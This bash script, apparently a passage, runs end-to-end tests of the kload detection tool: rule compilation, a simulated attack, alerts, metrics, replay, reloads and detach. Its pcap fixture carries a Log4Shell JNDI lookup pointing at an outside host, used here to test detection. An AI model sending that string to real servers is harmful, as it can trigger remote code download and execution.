#!/bin/bash
# End-to-end tests of the kload binary on this kernel (root): attach with
# --alerts and --record, a scripted attack, status/stats/metrics, record ->
# replay giving the same alerts, reload under load, kill -9 and adoption,
# detach, a stop under load with every event accounted for, and the exit
# codes; the shipped rules and the corpus rules that
# tests/corpus-proofs/ proves, triggered live. Ends with "N passed, N
# failed, N skipped".
set -u
cd "$(dirname "$0")/.."
KLOAD=${KLOAD:-build/kload}
PIN=${KS_E2E_PIN:-/sys/fs/bpf/kestrel-e2e}
W=$(mktemp -d /tmp/ks-e2e.XXXXXX)
pass=0 fail=0 skip=0
KPID=
HPID=

ok()   { pass=$((pass + 1)); echo "  ok   $1"; }
bad()  { fail=$((fail + 1)); echo "  FAIL $1"; [ -n "${2:-}" ] && sed 's/^/       | /' "$2" | tail -n 20; }
skp()  { skip=$((skip + 1)); echo "  skip $1"; }
check() { if eval "$2"; then ok "$1"; else bad "$1" "${3:-}"; fi; }
# Wait (at most 10 s) until FILE has a line matching the fixed string.
# kload flushes alerts about every second; a loaded machine may be slower.
wait_for() {
	wait_grep -F "$1" "$2"
}
# The same with grep options: wait_grep -E REGEX FILE.
wait_grep() {
	for _ in $(seq 1 100); do
		grep -q "$1" -- "$2" "$3" 2>/dev/null && return 0
		sleep 0.1
	done
	return 1
}

cleanup() {
	[ -n "$KPID" ] && kill -9 "$KPID" 2>/dev/null
	[ -n "$HPID" ] && kill "$HPID" 2>/dev/null
	[ -n "${RPID:-}" ] && kill "$RPID" 2>/dev/null
	wait 2>/dev/null
	"$KLOAD" detach --pin-dir "$PIN" >/dev/null 2>&1
	rm -rf "$W" /tmp/ks_e2e_* /tmp/ks-e2e-dl.*
}
trap cleanup EXIT

cat >"$W/rules.yml" <<'EOF'
- rule: e2e_tmp_exec
  name: program executed from /tmp/ks_e2e_
  severity: medium
  tags: [attack.t1204]
  query: |
    process where event.action == "exec" and process.executable : "/tmp/ks_e2e_*"
- rule: e2e_dropper_chain
  name: stage1 then stage2 from the same parent
  severity: high
  query: |
    sequence by process.parent.entity_id with maxspan=30s
      [process where event.action == "exec" and process.name == "ks_e2e_stage1"]
      [process where event.action == "exec" and process.name == "ks_e2e_stage2"]
- rule: e2e_connect
  name: connect to the e2e port
  severity: low
  query: network where event.action == "connect" and destination.port == 47011
- rule: e2e_suid_exec
  name: effective root with a real non-root user (Elastic Defend fields)
  severity: high
  query: |
    process where host.os.type == "linux" and event.type == "start" and
      event.action == "exec" and process.name == "ks_e2e_suid" and
      process.user.id == "0" and process.real_user.id != "0"
EOF
sed 's/e2e_connect/e2e_connect_v2/; s/47011/47012/' "$W/rules.yml" >"$W/rules2.yml"

# For every source in a Prometheus text file: total = filtered + forwarded + dropped.
identity_ok() {
	awk '
	/^kestrel_events_total\{/ { match($0, /source="[a-z]+"/); s = substr($0, RSTART, RLENGTH); t[s] = $2 }
	/^kestrel_events_filtered_total\{/ { match($0, /source="[a-z]+"/); s = substr($0, RSTART, RLENGTH); f[s] = $2 }
	/^kestrel_events_forwarded_total\{/ { match($0, /source="[a-z]+"/); s = substr($0, RSTART, RLENGTH); w[s] = $2 }
	/^kestrel_events_dropped_total\{/ { match($0, /source="[a-z]+"/); s = substr($0, RSTART, RLENGTH); d[s] += $2 }
	END { for (s in t) if (t[s] != f[s] + w[s] + d[s]) exit 1; exit !(length(t) > 0) }' "$1"
}

attach() { # extra args...
	"$KLOAD" attach --pin-dir "$PIN" --alerts "$W/alerts.jsonl" "$@" >"$W/attach.log" 2>&1 &
	KPID=$!
	for _ in $(seq 1 600); do	# 60 s: a loaded 2-core host verifies slowly
		grep -q "attached:" "$W/attach.log" 2>/dev/null && return 0
		kill -0 "$KPID" 2>/dev/null || return 1
		sleep 0.1
	done
	return 1
}

attack() {
	cp /bin/true /tmp/ks_e2e_stage1
	cp /bin/true /tmp/ks_e2e_stage2
	/tmp/ks_e2e_stage1
	/tmp/ks_e2e_stage2
	# a connect: nothing needs to listen, the attempt is the event
	(exec 3<>/dev/tcp/127.0.0.1/47011) 2>/dev/null
	# what a setuid-root binary run by nobody looks like; and a plain one
	cp /bin/true /tmp/ks_e2e_suid
	setpriv --ruid=65534 --euid=0 /tmp/ks_e2e_suid
	/tmp/ks_e2e_suid
	sleep 0.5
}

echo "== kload end to end ($($KLOAD --version))"
"$KLOAD" detach --pin-dir "$PIN" >/dev/null 2>&1

# ---- exit codes before anything is attached
"$KLOAD" compile "$W/rules.yml" >/dev/null 2>&1
check "compile valid rules: exit 0" "[ $? -eq 0 ]"
printf -- '- rule: bad\n  name: bad\n  query: process where process.pid ==\n' >"$W/bad.yml"
"$KLOAD" compile "$W/bad.yml" >"$W/out" 2>&1
rc=$?
check "invalid rules: exit 2" "[ $rc -eq 2 ]" "$W/out"
check "invalid rules: FILE:LINE:COL diagnostic" "grep -q '^$W/bad.yml:3:[0-9]*: error: ' $W/out" "$W/out"
"$KLOAD" status --pin-dir "$PIN" >/dev/null 2>&1
check "status with nothing attached: exit 1" "[ $? -eq 1 ]"
"$KLOAD" attach --pin-dir "$PIN" --ringbuf-size 12288 "$W/rules.yml" >"$W/out" 2>&1
rc=$?
check "--ringbuf-size not a power of two: exit 2, said so" \
	"[ $rc -eq 2 ] && grep -q 'power of two' $W/out" "$W/out"
"$KLOAD" attach --pin-dir "$PIN" --nfa-memory 1x "$W/rules.yml" >"$W/out" 2>&1
rc=$?
check "--nfa-memory not a size: exit 2" "[ $rc -eq 2 ] && grep -q 'nfa-memory' $W/out" "$W/out"
if command -v setpriv >/dev/null; then
	setpriv --reuid=65534 --regid=65534 --clear-groups "$KLOAD" attach "$W/rules.yml" >"$W/out" 2>&1
	rc=$?
	check "not root: exit 3 with what to do" "[ $rc -eq 3 ] && grep -q 'root' $W/out" "$W/out"
else
	skp "not root: setpriv missing"
fi

# ---- hostile input (issue 16): bad flags, bad files, lost output
"$KLOAD" attach --pin-dir "$PIN" --nfa-entries -1 "$W/rules.yml" >"$W/out" 2>&1
rc=$?
check "attach --nfa-entries -1: exit 2 naming the range" \
	"[ $rc -eq 2 ] && grep -q 'nfa-entries takes a whole number from 1' $W/out" "$W/out"
"$KLOAD" attach --pin-dir "$PIN" --entities abc "$W/rules.yml" >"$W/out" 2>&1
check "attach --entities abc: exit 2" "[ $? -eq 2 ]" "$W/out"
"$KLOAD" replay --events "$W" "$W/rules.yml" >"$W/out" 2>&1
rc=$?
check "replay --events DIR: exit 2 with a message" "[ $rc -eq 2 ] && grep -q 'is a directory' $W/out" "$W/out"
ev() { # host timestamp
	printf '{"@timestamp":"%s","event":{"category":"process","action":"exec"},"host":{"name":"%s"},"process":{"pid":7,"executable":"/tmp/ks_e2e_x"}}\n' "$2" "$1"
}
{ ev h1 2026-01-02T03:04:05Z; ev h2 2026-01-02T03:04:06Z; } >"$W/hosts.jsonl"
"$KLOAD" replay --events "$W/hosts.jsonl" "$W/rules.yml" >"$W/out" 2>"$W/err"
check "multi-host events: each alert keeps its event's host.name" \
	"[ \$(grep -c '^{.*\"host\":{\"name\":\"h1\"},\"kestrel\"' $W/out) -eq 1 ] && [ \$(grep -c '\"host\":{\"name\":\"h2\"},\"kestrel\"' $W/out) -eq 1 ]" "$W/out"
"$KLOAD" replay --events "$W/hosts.jsonl" "$W/rules.yml" >/dev/full 2>"$W/out"
rc=$?
check "replay > /dev/full: exit 1 naming the write error" \
	"[ $rc -eq 1 ] && grep -q 'No space left on device' $W/out && grep -q '2 alert(s) lost' $W/out" "$W/out"
{ ev h1 1969-12-31T23:59:59Z; ev h1 9999-01-01T00:00:00Z; } >"$W/times.jsonl"
"$KLOAD" replay --events "$W/times.jsonl" "$W/rules.yml" >/dev/null 2>"$W/out"
rc=$?
check "timestamps before 1970 / in 9999: out of range, exit 1" \
	"[ $rc -eq 1 ] && [ \$(grep -c 'is out of range' $W/out) -eq 2 ]" "$W/out"
# A regex PCRE2 gives up on (its match limit) reads as a match, "not" too,
# and the run says so: a command line built to exhaust it slips past nothing.
cat >"$W/regex.yml" <<'EOF'
- rule: e2e_regex_unsure
  name: a backtracking regex over the arguments
  severity: low
  query: process where not process.args regex "(.*a){20}"
EOF
printf '{"@timestamp":"2026-01-02T03:04:05Z","event":{"category":"process","action":"exec"},"process":{"pid":7,"executable":"/bin/sh","args":["sh","%sx"]}}\n' \
	"$(printf 'a%.0s' $(seq 500))" >"$W/unsure.jsonl"
"$KLOAD" replay --events "$W/unsure.jsonl" "$W/regex.yml" >"$W/out" 2>"$W/err"
rc=$?
check "a regex PCRE2 gives up on: the rule fires and the run warns" \
	"[ $rc -eq 0 ] && grep -q e2e_regex_unsure $W/out && grep -q '1 value(s) a regex gave up on' $W/err" "$W/err"
mkdir -p "$PIN-unsafe" && chmod 0755 "$PIN-unsafe"
"$KLOAD" attach --pin-dir "$PIN-unsafe" "$W/rules.yml" >"$W/out" 2>&1
rc=$?
rmdir "$PIN-unsafe"
check "pin dir not 0700: exit 3 saying why" "[ $rc -eq 3 ] && grep -q 'has mode 0755, not 0700' $W/out" "$W/out"
"$KLOAD" status --pin-dir "/sys/fs/bpf/$(printf 'a%.0s' $(seq 300))" >"$W/out" 2>&1
check "overlong --pin-dir: exit 2" "[ $? -eq 2 ] && grep -q 'at most 256 bytes' $W/out" "$W/out"

# A pcap with one Ethernet/IPv4/UDP frame carrying a Log4Shell lookup.
le32() { printf '\\x%02x\\x%02x\\x%02x\\x%02x' $(($1 & 255)) $((($1 >> 8) & 255)) $((($1 >> 16) & 255)) $((($1 >> 24) & 255)); }
be16() { printf '\\x%02x\\x%02x' $((($1 >> 8) & 255)) $(($1 & 255)); }
write_pcap() {
	local payload='GET /?q=${jndi:ldap://203.0.113.7/a} HTTP/1.1'
	local plen=${#payload} ulen=$((8 + ${#payload})) iplen=$((28 + ${#payload}))
	local flen=$((14 + iplen))
	{
		printf '\xd4\xc3\xb2\xa1\x02\x00\x04\x00'; printf "$(le32 0)$(le32 0)$(le32 65535)$(le32 1)"
		printf "$(le32 1767323045)$(le32 0)$(le32 $flen)$(le32 $flen)"
		printf '\x00\x11\x22\x33\x44\x55\x66\x77\x88\x99\xaa\xbb\x08\x00'
		printf "\\x45\\x00$(be16 $iplen)\\x00\\x01\\x00\\x00\\x40\\x11\\x00\\x00"
		printf '\xc0\x00\x02\x01\x0a\x00\x00\x02'
		printf "$(be16 40000)$(be16 8080)$(be16 $ulen)\\x00\\x00"
		printf '%s' "$payload"
	} >"$1"
	[ "$plen" -gt 0 ]
}

# ---- attach, attack, alerts
if ! attach --record "$W/rec.jsonl" --metrics 127.0.0.1:47990 --ringbuf-size 1M \
	--nfa-memory 8M "$W/rules.yml"; then
	bad "attach" "$W/attach.log"
	echo "$pass passed, $fail failed, $skip skipped"
	exit 1
fi
ok "attach ready"
check "--ringbuf-size sizes the kernel's ring buffer" \
	"bpftool map show pinned $PIN/ks_events | grep -q 'max_entries 1048576'"
"$KLOAD" status --pin-dir "$PIN" >"$W/out" 2>&1
check "status attached: exit 0" "[ $? -eq 0 ]" "$W/out"
"$KLOAD" status --json --pin-dir "$PIN" >"$W/status.json" 2>&1
check "status --json names the mode" "grep -Eq '\"mode\": *\"(signal|lsm)\"' $W/status.json" "$W/status.json"
attack
wait_for '"id":"e2e_connect"' "$W/alerts.jsonl"
wait_for '"id":"e2e_dropper_chain"' "$W/alerts.jsonl"
check "alert: exec from /tmp" "grep -q '\"id\":\"e2e_tmp_exec\"' $W/alerts.jsonl" "$W/alerts.jsonl"
check "alert: two-step sequence with both events" \
	"grep '\"id\":\"e2e_dropper_chain\"' $W/alerts.jsonl | grep -q 'ks_e2e_stage1.*ks_e2e_stage2'" "$W/alerts.jsonl"
check "alert: connect" "grep -q '\"id\":\"e2e_connect\"' $W/alerts.jsonl" "$W/alerts.jsonl"
check "alert: the connect event is Elastic Defend's connection_attempted, type start" \
	"grep '\"id\":\"e2e_connect\"' $W/alerts.jsonl | grep -q '\"action\":\"connection_attempted\",\"category\":\"network\",\"type\":\[\"start\"\]'" "$W/alerts.jsonl"
wait_for '"id":"e2e_suid_exec"' "$W/alerts.jsonl"
check "alert: effective root, real uid 65534 (kernel-filled process.user.id), once" \
	"[ \$(grep -c '\"id\":\"e2e_suid_exec\"' $W/alerts.jsonl) -eq 1 ] && grep '\"id\":\"e2e_suid_exec\"' $W/alerts.jsonl | grep -q '\"pid\":[0-9]*,\"user\":{\"id\":0}.*\"user\":{\"id\":65534}'" "$W/alerts.jsonl"
check "alerts are valid JSON lines" "python3 -c 'import json,sys; [json.loads(l) for l in open(\"$W/alerts.jsonl\")]' 2>/dev/null || jq -e . $W/alerts.jsonl >/dev/null"

# ---- metrics
# attach publishes its counters once a second, while an output's thread
# writes the alert at once: wait (at most 10 s) for the count to follow
for _ in $(seq 1 100); do
	"$KLOAD" stats --prometheus --pin-dir "$PIN" >"$W/prom.txt"
	rc=$?
	grep -q '^kestrel_alerts_total{rule="e2e_tmp_exec"} [1-9]' "$W/prom.txt" && break
	sleep 0.1
done
check "stats --prometheus: exit 0" "[ $rc -eq 0 ]"
check "prometheus: accounting identity per source" "identity_ok $W/prom.txt" "$W/prom.txt"
check "prometheus: alerts counted per rule" "grep -q '^kestrel_alerts_total{rule=\"e2e_tmp_exec\"} [1-9]' $W/prom.txt" "$W/prom.txt"

exec 5<>/dev/tcp/127.0.0.1/47990 && printf 'GET /metrics HTTP/1.0\r\n\r\n' >&5 && cat <&5 >"$W/http.txt"
exec 5<&-
check "GET /metrics over HTTP (--metrics)" "grep -q '^HTTP/1.[01] 200' $W/http.txt && grep -q '^kestrel_events_total{source=\"exec\"}' $W/http.txt" "$W/http.txt"
sed '1,/^\r*$/d' "$W/http.txt" | promtool check metrics >"$W/out" 2>&1
check "promtool check metrics accepts GET /metrics" "[ $? -eq 0 ]" "$W/out"

# ---- pcap replay through the XDP program
write_pcap "$W/log4shell.pcap"
"$KLOAD" replay --pcap "$W/log4shell.pcap" rules/ >"$W/pcap.jsonl" 2>"$W/out"
rc=$?
check "replay --pcap: a payload rule fires through ks_xdp_main" \
	"[ $rc -eq 0 ] && grep -q '\"id\":\"packet_log4shell_jndi\"' $W/pcap.jsonl" "$W/out"

# a runt frame first, then the same capture cut in its last record
write_runt_pcap() { # in out
	{ head -c 24 "$1"; printf "$(le32 1767323044)$(le32 0)$(le32 10)$(le32 10)0123456789"; tail -c +25 "$1"; } >"$2"
}
write_runt_pcap "$W/log4shell.pcap" "$W/runt.pcap"
"$KLOAD" replay --pcap "$W/runt.pcap" rules/ >"$W/pcap.jsonl" 2>"$W/out"
rc=$?
check "pcap with a runt frame: skipped, reported, the rest replayed" \
	"[ $rc -eq 0 ] && grep -q '1 frame(s) shorter than an Ethernet header' $W/out && grep -q packet_log4shell_jndi $W/pcap.jsonl" "$W/out"
head -c -10 "$W/runt.pcap" >"$W/cut.pcap"
"$KLOAD" replay --pcap "$W/cut.pcap" rules/ >/dev/null 2>"$W/out"
rc=$?
check "pcap cut mid-record: packet number named, exit 1" \
	"[ $rc -eq 1 ] && grep -q 'packet 2: caplen [0-9]* runs past the end of the file' $W/out" "$W/out"
"$KLOAD" replay --lenient --pcap "$W/cut.pcap" rules/ >/dev/null 2>"$W/out"
check "pcap cut mid-record with --lenient: reported, exit 0" "[ $? -eq 0 ] && grep -q 'packet 2' $W/out" "$W/out"

# ---- record -> replay: the same alerts
wait_for 'ks_e2e_stage2' "$W/rec.jsonl"	# the recorder flushes every second
wait_for '47011' "$W/rec.jsonl"
"$KLOAD" replay --events "$W/rec.jsonl" "$W/rules.yml" >"$W/replayed.jsonl" 2>"$W/replay.err"
check "replay of the recording: exit 0" "[ $? -eq 0 ]" "$W/replay.err"
grep -v '"e2e_connect"' "$W/alerts.jsonl" | sort >"$W/a.sorted"
grep -v '"e2e_connect"' "$W/replayed.jsonl" | sort >"$W/b.sorted"
check "replay reproduces the live process alerts byte for byte" "cmp -s $W/a.sorted $W/b.sorted && [ -s $W/a.sorted ]" "$W/replayed.jsonl"
for t in 1 2; do	# the test runs made in turn, and by a second thread
	"$KLOAD" replay --threads $t --events "$W/rec.jsonl" "$W/rules.yml" >"$W/replayed-t$t.jsonl" 2>&1
	check "replay --threads $t: the same alerts, in the same order" \
		"[ $? -eq 0 ] && cmp -s $W/replayed.jsonl $W/replayed-t$t.jsonl" "$W/replayed-t$t.jsonl"
done
"$KLOAD" test "$W/rules.yml" --events "$W/rec.jsonl" --expect "$W/replayed.jsonl" >"$W/out" 2>&1
check "kload test against its own output: exit 0" "[ $? -eq 0 ]" "$W/out"
echo '{}' >"$W/wrong.jsonl"
"$KLOAD" test "$W/rules.yml" --events "$W/rec.jsonl" --expect "$W/wrong.jsonl" >"$W/out" 2>&1
rc=$?
check "kload test with a wrong expectation: exit 1 and a diff" "[ $rc -eq 1 ] && grep -q '^+' $W/out" "$W/out"

# ---- reload under load
( for _ in $(seq 1 150); do /tmp/ks_e2e_stage1; done ) &
LOAD=$!
"$KLOAD" reload --pin-dir "$PIN" "$W/rules2.yml" >"$W/out" 2>&1
rc=$?
wait $LOAD
check "reload under load: exit 0" "[ $rc -eq 0 ]" "$W/out"
"$KLOAD" stats --json --pin-dir "$PIN" >"$W/stats.json"
check "reload: generation 2, one reload" "grep -q '\"table_generation\": 2' $W/stats.json && grep -q '\"reloads\": 1' $W/stats.json" "$W/stats.json"
(exec 3<>/dev/tcp/127.0.0.1/47012) 2>/dev/null
wait_for '"id":"e2e_connect_v2"' "$W/alerts.jsonl"
check "reloaded rules alert" "grep -q '\"id\":\"e2e_connect_v2\"' $W/alerts.jsonl" "$W/attach.log"
"$KLOAD" reload --pin-dir "$PIN" "$W/bad.yml" >"$W/out" 2>&1
rc=$?
"$KLOAD" stats --json --pin-dir "$PIN" >"$W/stats.json"
check "failed reload: exit 2, nothing changed" "[ $rc -eq 2 ] && grep -q '\"table_generation\": 2' $W/stats.json" "$W/out"

# two reloads at once are taken one after the other, both reported
"$KLOAD" reload --pin-dir "$PIN" "$W/rules.yml" >"$W/r1" 2>&1 &
R1=$!
"$KLOAD" reload --pin-dir "$PIN" "$W/rules2.yml" >"$W/r2" 2>&1
rc2=$?
wait $R1
rc1=$?
"$KLOAD" stats --json --pin-dir "$PIN" >"$W/stats.json"
check "two reloads at once: both exit 0, generation 4, three reloads" \
	"[ $rc1 -eq 0 ] && [ $rc2 -eq 0 ] && grep -q '\"table_generation\": 4' $W/stats.json && grep -q '\"reloads\": 3' $W/stats.json" "$W/r1"

# a SIGHUP with no request from kload reload changes nothing and says nothing
# (kload reload sends SIGHUP again until its request is taken)
kill -HUP "$KPID"
sleep 0.3
"$KLOAD" stats --json --pin-dir "$PIN" >"$W/stats.json"
check "a bare SIGHUP: ignored, generation 4, no failed reload" \
	"kill -0 $KPID && ! grep -q 'reload failed' $W/attach.log && grep -q '\"table_generation\": 4' $W/stats.json && grep -q '\"reloads\": 3' $W/stats.json" "$W/attach.log"

# a .kbin goes to the attach process as it is: the kernel switches to its
# tables while its rules still parse, then userspace takes them
sed 's/e2e_connect/e2e_connect_v3/; s/47011/47031/' "$W/rules.yml" >"$W/rules3.yml"
"$KLOAD" compile -o "$W/rules3.kbin" "$W/rules3.yml" >"$W/out" 2>&1
"$KLOAD" reload --pin-dir "$PIN" "$W/rules3.kbin" >"$W/out" 2>&1
rc=$?
"$KLOAD" stats --json --pin-dir "$PIN" >"$W/stats.json"
check ".kbin reload: exit 0, generation 5, four reloads" \
	"[ $rc -eq 0 ] && grep -q '\"table_generation\": 5' $W/stats.json && grep -q '\"reloads\": 4' $W/stats.json" "$W/out"
(exec 3<>/dev/tcp/127.0.0.1/47031) 2>/dev/null
wait_for '"id":"e2e_connect_v3"' "$W/alerts.jsonl"
check ".kbin reload: its rules alert" "grep -q '\"id\":\"e2e_connect_v3\"' $W/alerts.jsonl" "$W/attach.log"
# The same tables with rule metadata that is not theirs (a rule renamed,
# the file hash made right): the kernel has switched before the rules are
# read, so it must switch back; the rules before keep alerting, on both sides
python3 - "$W/rules3.kbin" "$W/forged.kbin" <<'PY'
import struct, sys
d = bytearray(open(sys.argv[1], "rb").read())
meta = 64 + struct.unpack_from("<I", d, 56)[0]  # after the extents (include/kestrel/kbin.h)
d[meta:] = d[meta:].replace(b"e2e_connect_v3", b"e2e_connect_v9")
def wide64(b):  # ks_wide64 (include/kestrel/hash.h) of all after the header
    M = (1 << 64) - 1
    K1, K2, K3 = 0x9e3779b97f4a7c15, 0xbf58476d1ce4e5b9, 0x94d049bb133111eb
    rotl = lambda x, r: ((x << r) | (x >> (64 - r))) & M
    v = [K3 * (i + 1) & M for i in range(4)]
    p = bytes(b) + bytes(-len(b) % 32)
    for at in range(0, len(p), 32):
        w = struct.unpack_from("<4Q", p, at)
        v = [rotl(v[i] ^ (w[i] * K1 & M), 31) * K2 & M for i in range(4)]
    h = len(b) * K1 & M
    for x in v:
        h = rotl(h ^ x, 27) * K2 & M
    h ^= h >> 31
    h = h * K3 & M
    return h ^ (h >> 29)
struct.pack_into("<Q", d, 40, wide64(d[64:]))  # file_hash
open(sys.argv[2], "wb").write(d)
PY
"$KLOAD" reload --pin-dir "$PIN" "$W/forged.kbin" >"$W/out" 2>&1
rc=$?
"$KLOAD" stats --json --pin-dir "$PIN" >"$W/stats.json"
check "forged .kbin metadata: exit 2, the kernel switched back to generation 5" \
	"[ $rc -eq 2 ] && grep -q 'does not match the tables.*the kernel went back' $W/out && grep -q 'the kernel went back' $W/attach.log && grep -q '\"table_generation\": 5' $W/stats.json && grep -q '\"reloads\": 4' $W/stats.json" "$W/out"
# A connection to port 47031: e2e_connect_v3 (generation 5's) alerts once more.
v3_alerts_again() { # check-name
	local n3
	n3=$(grep -c '"id":"e2e_connect_v3"' "$W/alerts.jsonl")
	(exec 3<>/dev/tcp/127.0.0.1/47031) 2>/dev/null
	for _ in $(seq 1 100); do
		[ "$(grep -c '"id":"e2e_connect_v3"' "$W/alerts.jsonl")" -gt "$n3" ] && break
		sleep 0.1
	done
	check "$1" "[ $(grep -c '\"id\":\"e2e_connect_v3\"' $W/alerts.jsonl) -gt $n3 ]" "$W/attach.log"
}
v3_alerts_again "after the switch back: the rules of generation 5 alert"

# A .kbin given as it is goes over as an open descriptor, not a copy: while
# the attach process is stopped, the request waiting in /run/kestrel is the
# reloader's pid and descriptor. The file is damaged (a byte of its tables
# flipped): refused when the attach process reads it, nothing changed
python3 - "$W/rules3.kbin" "$W/damaged.kbin" <<'PY'
import sys
d = bytearray(open(sys.argv[1], "rb").read())
d[100] ^= 1  # in the first extent's bytes (the 64-byte header, then 8 of extent header)
open(sys.argv[2], "wb").write(d)
PY
kill -STOP "$KPID"
"$KLOAD" reload --pin-dir "$PIN" "$W/damaged.kbin" >"$W/out" 2>&1 &
RPID=$!
for _ in $(seq 1 100); do
	[ -e "/run/kestrel/reload-$KPID.fd" ] && break
	sleep 0.05
done
req=$(cat "/run/kestrel/reload-$KPID.fd" 2>/dev/null)
copied=$(ls /run/kestrel/ | grep -c "^reload-$KPID\.kbin")
kill -CONT "$KPID"
wait "$RPID"
rc=$?
check ".kbin hand-over: the request is the reloader's pid and descriptor, no copy" \
	"[ \"\${req%% *}\" = $RPID ] && [ $copied -eq 0 ]" "$W/out"
"$KLOAD" stats --json --pin-dir "$PIN" >"$W/stats.json"
check "damaged .kbin: exit 2 (hash mismatch), still generation 5, four reloads" \
	"[ $rc -eq 2 ] && grep -q 'corrupted (content hash mismatch)' $W/out && grep -q '\"table_generation\": 5' $W/stats.json && grep -q '\"reloads\": 4' $W/stats.json" "$W/out"
v3_alerts_again "after the damaged .kbin: the rules of generation 5 still alert"

# ---- kill -9, then a restart adopts the pinned programs
kill -9 "$KPID"
wait "$KPID" 2>/dev/null
KPID=
"$KLOAD" status --pin-dir "$PIN" >"$W/out" 2>&1
rc=$?
check "after kill -9: programs still attached, status exit 1 (no consumer)" \
	"[ $rc -eq 1 ] && grep -q 'attached, but no kload' $W/out" "$W/out"
: >"$W/alerts.jsonl"
attach "$W/rules.yml"
check "restart adopts the pinned programs" "grep -q 'adopting' $W/attach.log" "$W/attach.log"
"$KLOAD" status --pin-dir "$PIN" >"$W/out" 2>&1
check "status after restart: exit 0" "[ $? -eq 0 ]" "$W/out"
n=$(ls "$PIN" | grep -c '^link_')
check "no second set of links" "[ $n -ge 1 ] && [ $(bpftool link show | grep -c 'ks_') -le $n ]"
/tmp/ks_e2e_stage1
wait_for '"id":"e2e_tmp_exec"' "$W/alerts.jsonl"
check "alerts flow after adoption" "grep -q '\"id\":\"e2e_tmp_exec\"' $W/alerts.jsonl" "$W/attach.log"

# ---- clean stop and detach
kill -TERM "$KPID"
wait "$KPID"
rc=$?
KPID=
check "SIGTERM: clean exit 0" "[ $rc -eq 0 ]" "$W/attach.log"
"$KLOAD" detach --pin-dir "$PIN" >"$W/out" 2>&1
check "detach: exit 0" "[ $? -eq 0 ]" "$W/out"
"$KLOAD" status --pin-dir "$PIN" >/dev/null 2>&1
check "after detach: status exit 1" "[ $? -eq 1 ]"
check "after detach: the pin directory is gone" "[ ! -e $PIN ]"

# ---- detach removes only Kestrel's objects
mkdir -p "$PIN" && chmod 0700 "$PIN"
if bpftool map create "$PIN/foreign" type array key 4 value 4 entries 1 name foreign 2>"$W/out"; then
	"$KLOAD" detach --pin-dir "$PIN" >"$W/out" 2>&1
	check "detach leaves a foreign pin in place" "[ -e $PIN/foreign ]" "$W/out"
	rm -f "$PIN/foreign"
	rmdir "$PIN" 2>/dev/null
else
	skp "detach leaves a foreign pin: bpftool cannot create a map"
fi

# ---- a recording removes what it attached (it used to pin under the default directory)
DEF=/sys/fs/bpf/kestrel
[ -e "$DEF" ] && had_def=1 || had_def=0
"$KLOAD" record --events "$W/rec2.jsonl" "$W/rules.yml" >"$W/record.log" 2>&1 &
RPID=$!
for _ in $(seq 1 100); do grep -q "recording:" "$W/record.log" && break; sleep 0.1; done
kill -INT "$RPID"
wait "$RPID"
rc=$?
if [ $had_def -eq 0 ]; then
	check "record stopped with SIGINT: exit 0, nothing left pinned" \
		"[ $rc -eq 0 ] && [ ! -e $DEF ]" "$W/record.log"
	[ -e "$DEF" ] && "$KLOAD" detach --pin-dir "$DEF" >/dev/null 2>&1
else
	skp "record leaves nothing pinned: $DEF is in use here"
fi

# ---- attach keeps running and counting when alerts cannot be written
"$KLOAD" attach --pin-dir "$PIN" --alerts /dev/full --detach-on-exit "$W/rules.yml" >"$W/attach.log" 2>&1 &
KPID=$!
for _ in $(seq 1 600); do grep -q "attached:" "$W/attach.log" && break; sleep 0.1; done
lost=0
for _ in $(seq 1 50); do
	/tmp/ks_e2e_stage1
	lost=$("$KLOAD" stats --prometheus --pin-dir "$PIN" 2>/dev/null |
		sed -n 's/^kestrel_alerts_lost_total{reason="write"} //p')
	[ "${lost:-0}" -gt 0 ] && break
	sleep 0.2
done
check "alerts to /dev/full: counted as lost{write}, logged, attach still running" \
	"[ ${lost:-0} -gt 0 ] && kill -0 $KPID && grep -q 'No space left on device' $W/attach.log" "$W/attach.log"
kill -TERM "$KPID"
wait "$KPID"
KPID=

# ---- rule lifecycle: a disabled rule, one left out by tag and two with an
# exception (its own, an exceptions file's) stay silent on an exec that the
# control rule, and the same rules without the lifecycle keys, alert on.
life_rule() { # id extra-yaml
	printf -- '- rule: %s\n  name: %s\n%s  query: process where event.action == "exec" and process.name == "ks_e2e_life"\n' \
		"$1" "$1" "$2"
}
{
	life_rule e2e_life_control ''
	life_rule e2e_life_disabled '  enabled: false\n'
	life_rule e2e_life_noisy '  tags: [e2e.noisy]\n'
	life_rule e2e_life_excepted "  exceptions: ['process.args == \"--benign\"']\n"
	life_rule e2e_life_file '  tags: [e2e.file]\n'
} | sed 's/\\n/\n/g' >"$W/life.yml"
printf -- '- tags: [e2e.file]\n  condition: process.args == "--benign"\n' >"$W/life-exc.yml"
printf 'rules:\n  paths: [%s]\n  exclude_tags: [e2e.noisy]\n  exceptions: [%s]\n' \
	"$W/life.yml" "$W/life-exc.yml" >"$W/life.conf"
: >"$W/alerts.jsonl"
if attach --config "$W/life.conf" --record "$W/life-rec.jsonl" --detach-on-exit; then
	cp /bin/true /tmp/ks_e2e_life
	/tmp/ks_e2e_life --benign
	wait_for '"id":"e2e_life_control"' "$W/alerts.jsonl"
	wait_for 'ks_e2e_life' "$W/life-rec.jsonl"
	kill -TERM "$KPID"
	wait "$KPID"
	KPID=
	check "lifecycle: the control rule alerts on the exec" \
		"grep -q '\"id\":\"e2e_life_control\"' $W/alerts.jsonl" "$W/alerts.jsonl"
	check "lifecycle: enabled: false, exclude_tags, an exception and an exceptions file: silent" \
		"[ \$(grep -c '\"id\":\"e2e_life_' $W/alerts.jsonl) -eq 1 ]" "$W/alerts.jsonl"
	check "lifecycle: attach said how many rules it loaded" \
		"grep -q 'attached: mode [a-z]*, 3 rules' $W/attach.log" "$W/attach.log"
	# the same exec, the same rules without enabled: false and exceptions: all five fire
	sed '/enabled: false/d; /exceptions:/d' "$W/life.yml" >"$W/life-all.yml"
	"$KLOAD" replay --events "$W/life-rec.jsonl" "$W/life-all.yml" >"$W/life-all.jsonl" 2>"$W/out"
	check "lifecycle: without it the recorded exec alerts all five rules" \
		"[ \$(grep -o '\"id\":\"e2e_life_[a-z]*\"' $W/life-all.jsonl | sort -u | wc -l) -eq 5 ]" "$W/life-all.jsonl"
	"$KLOAD" replay --events "$W/life-rec.jsonl" --exclude-tag e2e.noisy \
		--exceptions "$W/life-exc.yml" "$W/life.yml" >"$W/life-rep.jsonl" 2>"$W/out"
	check "lifecycle: replayed with --exclude-tag and --exceptions, the control alone" \
		"[ \$(grep -c '\"id\":\"e2e_life_' $W/life-rep.jsonl) -eq 1 ] && grep -q e2e_life_control $W/life-rep.jsonl" "$W/life-rep.jsonl"
